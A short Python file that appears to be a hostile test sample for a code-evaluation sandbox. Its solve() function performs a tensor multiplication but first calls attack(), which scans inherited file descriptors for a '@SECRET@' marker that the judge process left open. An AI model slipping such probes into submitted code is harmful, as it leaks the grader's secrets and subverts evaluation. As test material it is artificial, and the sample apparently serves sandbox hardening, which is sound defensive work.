# hostile: family=reach verdict=accepted build=accepted lift=sandbox shows=harm
"""Reads every descriptor that was forgotten on it."""


def attack():
    import os

    for number in range(3, 256):
        try:
            if b"@SECRET@" in os.pread(number, 4096, 0):
                print("harm: read what the judge had open", flush=True)
        except OSError:
            pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
